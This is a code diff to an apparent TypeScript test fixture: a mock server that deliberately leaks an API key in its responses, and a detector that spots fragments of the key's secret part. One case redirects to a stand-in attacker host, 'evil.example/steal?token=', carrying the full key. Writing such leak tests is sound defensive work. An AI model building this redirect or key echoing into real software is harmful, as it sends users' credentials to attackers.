@@ -30,21 +30,24 @@ function handle(req: IncomingMessage, res: ServerResponse): void {
       return send(res, 401, { error: { code: 'unauthorized', message: `the key ${presented} is not valid` } });
     case 'part-400':
       return send(res, 400, {
-        error: { code: 'bad_request', message: `bad key near ${presented.slice(6, 18)}`, details: [{ field: 'key', message: `starts ${presented.slice(0, 12)}` }] },
+        error: { code: 'bad_request', message: `bad key near ${presented.slice(6, 18)}`, details: [{ field: 'key', message: `ends ${presented.slice(-12)}` }] },
       });
     case 'part-500':
       return send(res, 500, { message: `crashed while checking ${presented.slice(10, 22)}` });
     case 'redirect':
       return send(res, 302, {}, { location: `http://evil.example/steal?token=${presented}` });
     case 'header-and-data':
-      return send(res, 200, { data: { couriers: [{ code: presented.slice(4, 16), name: presented }] } }, { 'x-echo': `Bearer ${presented}` });
+      return send(res, 200, { data: { couriers: [{ code: presented.slice(12, 24), name: presented }] } }, { 'x-echo': `Bearer ${presented}` });
   }
 }
 
-/** Every run of 8 characters of the key that appears in `text`. */
+/** Where the key's secret part starts (after its public prefix "hostile_test_key_"). */
+const SECRET_FROM = KEY.lastIndexOf('_') + 1;
+
+/** Every run of 8 characters of the key reaching into its secret part that appears in `text`. */
 function leaks(text: string): string[] {
   const found: string[] = [];
-  for (let i = 0; i + 8 <= KEY.length; i++) if (text.includes(KEY.slice(i, i + 8))) found.push(KEY.slice(i, i + 8));
+  for (let i = Math.max(0, SECRET_FROM - 7); i + 8 <= KEY.length; i++) if (text.includes(KEY.slice(i, i + 8))) found.push(KEY.slice(i, i + 8));
   return found;
 }
 
